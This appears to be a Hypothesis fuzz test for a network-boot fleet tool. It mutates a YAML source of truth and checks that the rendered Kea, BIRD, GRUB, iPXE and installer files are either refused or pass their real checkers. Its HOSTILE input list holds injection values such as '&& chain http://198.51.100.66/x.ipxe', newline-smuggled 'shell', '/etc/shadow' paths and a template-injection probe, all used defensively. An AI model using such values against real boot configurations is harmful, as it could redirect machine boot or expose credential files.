"""Property test: any mutation of the embedded SoT is either refused by the loader, every problem naming its
file, record and field within a bounded length, or renders files that pass their real checkers
(tests/checkers.py) and hold no line the templates do not have.

Hypothesis mutates every field of every record (set to hostile or random values, deleted, unknown fields
added, records duplicated, mappings and lists replaced). The loader and the renderers run per example; the
real checkers run once per distinct rendered file at the end (kea -t per example would cost the budget).

The budget: NBF_FUZZ_EXAMPLES examples (default 500), derandomized so CI runs the same examples every time;
NBF_FUZZ_RANDOM=1 draws new ones (a longer local hunt: NBF_FUZZ_EXAMPLES=5000 NBF_FUZZ_RANDOM=1).
"""

from __future__ import annotations

import copy
import hashlib
import os
import re
import shutil

import yaml
from hypothesis import HealthCheck, given, settings, strategies as st

import checkers
from ansible_collections.netboot.fleet.plugins.module_utils.problems import Problem, ProblemsError
from ansible_collections.netboot.fleet.plugins.module_utils.anycast import bird as bgp
from ansible_collections.netboot.fleet.plugins.module_utils.kea import config as kea
from ansible_collections.netboot.fleet.plugins.module_utils.pxe import layout, render as pxe
from ansible_collections.netboot.fleet.plugins.module_utils.sot import api as sot

REPO = os.path.join(os.path.dirname(__file__), "..", "..", "..")
# Every firmware and installer kind (the embedded SoT's machines all use the lab's minimal installer).
EMBEDDED = os.path.join(REPO, "tests", "unit", "pxe", "data", "all-kinds-sot")
EXAMPLES = int(os.environ.get("NBF_FUZZ_EXAMPLES", "500"))
# A report line is bounded: its file path, record, field and a message whose echoed value is cut.
PROBLEM_MAX = 600
# Line breaks of some target syntax (YAML breaks lines at NEL and the Unicode separators).
FOREIGN_BREAKS = re.compile("[\r\x0b\x0c\x85\u2028\u2029\x00]")

HOSTILE = [
    "", " ", "\n", "x\nshell", "x\r\ny", '"', "'", "\\", "x;y", "x y", "&& chain http://198.51.100.66/x.ipxe",
    "|| shell", "${net0/mac}", "%post", "--all", "\u2028", "\x85", "\x00", "\t", "#", "{{ 7 * 7 }}", "a" * 300,
    "b" * 2000, "127.0.0.1", "::1", "fe80::1", "224.0.0.1", "ff02::1", "0.0.0.0", "0.1.2.3", "::", "240.0.0.1",
    "255.255.255.255", "198.51.100.0", "198.51.100.63", "198.51.100.55", "2001:db8:12::", "2001:db8:13::1500",
    "203.0.113.53", "2001:db8:53::53", "198.51.100.10", "192.0.2.1", "00:00:00:00:00:00", "ff:ff:ff:ff:ff:ff",
    "52:54:00:12:00:01", "52-54-00-12-00-09", "/etc/shadow", "file:///etc/shadow", "http://198.51.100.66/k",
    "../k", "/dev/sda --all", "rack_r12", "profile_debian12", "\u212a", "IMG-SERVER1", "img-server1", "rack12",
    "Rack12", "bios", "uefi", "redfish", "preseed", "kickstart", "autoinstall", "2001:DB8:12:0::10",
]
VALUES = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=12),
    st.integers(min_value=-2 ** 33, max_value=2 ** 33),
    st.sampled_from([0, 1, 65000, 65053, 623, 65536, 4294967295, True, False, None, 1.5, float("nan")]),
    st.lists(st.sampled_from(HOSTILE[:20] + ["x"]), max_size=3),
    st.dictionaries(st.one_of(st.sampled_from(["name", "address", "x", "ipv4"]), st.integers(0, 3)),
                    st.sampled_from(HOSTILE[:10] + [1]), max_size=2),
)


def embedded_files():
    files = {}
    for name in sorted(os.listdir(EMBEDDED)):
        with open(os.path.join(EMBEDDED, name), encoding="utf-8") as handle:
            files[name] = yaml.safe_load(handle)
    return files


def paths_of(node, path=()):
    """Every path to a value (mappings by key, lists by index), the containers included."""
    yield path
    if isinstance(node, dict):
        for key, value in node.items():
            yield from paths_of(value, path + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from paths_of(value, path + (index,))


def at(node, path):
    for step in path:
        node = node[step]
    return node


@st.composite
def mutations(draw):
    """(description, mutated files): one to three mutations of the embedded SoT."""
    files = copy.deepcopy(BASE)
    done = []
    for _round in range(draw(st.integers(1, 3))):
        paths = [path for path in paths_of(files) if len(path) >= 2]
        path = draw(st.sampled_from(paths))
        parent, key = at(files, path[:-1]), path[-1]
        kind = draw(st.sampled_from(["set", "set", "set", "copy", "copy", "transform", "delete", "add", "duplicate"]))
        if kind == "set":
            parent[key] = draw(VALUES)
        elif kind == "copy":  # a value another field holds: valid in form, often wrong in place
            parent[key] = copy.deepcopy(at(files, draw(st.sampled_from(paths))))
        elif kind == "transform" and isinstance(parent[key], str):
            parent[key] = draw(st.sampled_from([str.upper, lambda s: s + "\n", lambda s: " " + s,
                                                lambda s: s.replace("k", "\u212a"), lambda s: s * 40,
                                                lambda s: s + "\u2028x", lambda s: s + ",x"]))(parent[key])
        elif kind == "delete" and isinstance(parent, dict):
            del parent[key]
        elif kind == "add" and isinstance(parent[key], dict):
            parent[key][draw(st.sampled_from(["x", "gatway", "pool", "port", "template", "cmdline", "name"]))] = \
                draw(VALUES)
        elif kind == "duplicate" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[key]))
        else:
            continue
        done.append("%s %s" % (kind, "/".join(map(str, path))))
    return "; ".join(done), files


def write(files, directory):
    shutil.rmtree(directory, ignore_errors=True)
    os.makedirs(directory)
    for name, data in files.items():
        with open(os.path.join(directory, name), "w", encoding="utf-8") as handle:
            yaml.safe_dump(data, handle)


def template_lines():
    """{template name: [regex of each line it can write]}: literal text, anything where Jinja fills in."""
    patterns = {}
    for name, text in pxe.read_templates().items():
        text = re.sub(r"{#.*?#}", "", text, flags=re.S)
        lines = []
        for line in text.splitlines():
            if re.fullmatch(r"\s*{%.*?%}\s*", line):
                continue
            # Inline {% if %}...{% else %}...{% endif %}: anything between the first and the last tag.
            parts = re.split(r"{{.*?}}|{%.*%}", line)
            lines.append(re.compile(".*".join(map(re.escape, parts)) + r"\Z"))
        patterns[name] = lines + [re.compile(r"\Z")]
    return patterns


def template_of(path):
    if path.endswith(".ipxe"):
        return "boot.ipxe" if path.endswith("/boot.ipxe") else "machine.ipxe"
    for files in layout.INSTALLER_FILES.values():
        for file_name, template in files:
            if path.endswith("/" + file_name):
                return template
    return "grub.cfg" if "grub" in path else "pxelinux.cfg"


class Rendered:
    """Every distinct rendered file by checker, with the mutation that first made it."""

    def __init__(self):
        self.files = {}

    def add(self, kind, content, origin):
        key = hashlib.sha256(content.encode("utf-8") if isinstance(content, str) else repr(content).encode()).digest()
        self.files.setdefault(kind, {}).setdefault(key, (content, origin))

    def of(self, kind):
        return list(self.files.get(kind, {}).values())


def render_all(fleet, rendered, origin, lines):
    outputs = {}
    for family in kea.FAMILIES:
        outputs["kea-" + family] = kea.render(fleet, family)
    for node in fleet.dhcp_nodes:
        outputs["bird " + node.name] = bgp.render_bird(fleet, node.name)
    templates = pxe.Templates(pxe.read_templates(), pxe.read_profile_templates(fleet))
    boot_files = pxe.Renderer(fleet, templates).render_all()
    for family in kea.FAMILIES:
        rendered.add("kea-" + family, outputs["kea-" + family], origin)
    for name, text in outputs.items():
        if name.startswith("bird "):
            rendered.add("bird", text, origin)
    for (_root, path), data in boot_files.items():
        text = data.decode("utf-8")
        assert not FOREIGN_BREAKS.search(text), (path, origin, text)
        patterns = lines[template_of(path)]
        for line in text.split("\n"):
            assert any(pattern.match(line) for pattern in patterns), ("a line no template has", path, line, origin)
        kind = {"grub.cfg": "grub", "kickstart.cfg": "kickstart", "preseed.cfg": "preseed",
                "autoinstall-user-data": "user-data"}.get(template_of(path))
        if kind:
            rendered.add(kind, text, origin)


def test_mutated_sots_are_refused_or_render_what_the_checkers_accept(tmp_path):
    rendered, counts, lines = Rendered(), {"refused": 0, "renderer refused": 0, "rendered": 0}, template_lines()

    @settings(max_examples=EXAMPLES, deadline=None, derandomize=not os.environ.get("NBF_FUZZ_RANDOM"),
              suppress_health_check=list(HealthCheck), database=None)
    @given(mutations())
    def one(mutation):
        origin, files = mutation
        directory = str(tmp_path / "sot")
        write(files, directory)
        try:
            fleet = sot.load(directory)
        except sot.SotError as exc:
            counts["refused"] += 1
            assert exc.problems, origin
            for problem in exc.problems:
                assert isinstance(problem, Problem) and problem.source and problem.record, (problem, origin)
                assert len(str(problem)) <= PROBLEM_MAX, (str(problem)[:2000], origin)
            return
        try:
            render_all(fleet, rendered, origin, lines)
        except ProblemsError as exc:
            # A renderer's own rule (a node without peers, a template file that is missing) refuses cleanly;
            # its guard refusing what the loader accepted is a loader gap.
            assert "cannot be written" not in str(exc), (str(exc), origin)
            counts["renderer refused"] += 1
            return
        counts["rendered"] += 1

    one()
    print("fuzz: %d examples: %s; distinct files: %s" % (
        EXAMPLES, counts, {kind: len(files) for kind, files in sorted(rendered.files.items())}))
    failures = []
    for family in kea.FAMILIES:
        failures += [(origin, message) for config, origin in rendered.of("kea-" + family)
                     for ok, message in [checkers.kea(family, config)] if not ok]
    for kind, check in (("bird", checkers.bird), ("grub", checkers.grub_script), ("user-data", checkers.cloud_config)):
        failures += [(origin, message) for text, origin in rendered.of(kind) for ok, message in [check(text)] if not ok]
    for kind, check_many in (("kickstart", checkers.kickstart_files), ("preseed", checkers.preseed_files)):
        files = rendered.of(kind)
        failures += [(origin, message) for (_text, origin), (ok, message) in zip(files, check_many([text for text, _o in files]))
                     if not ok]
    assert not failures, "\n".join("%s: %s" % (origin, message[-500:]) for origin, message in failures[:10])


BASE = embedded_files()
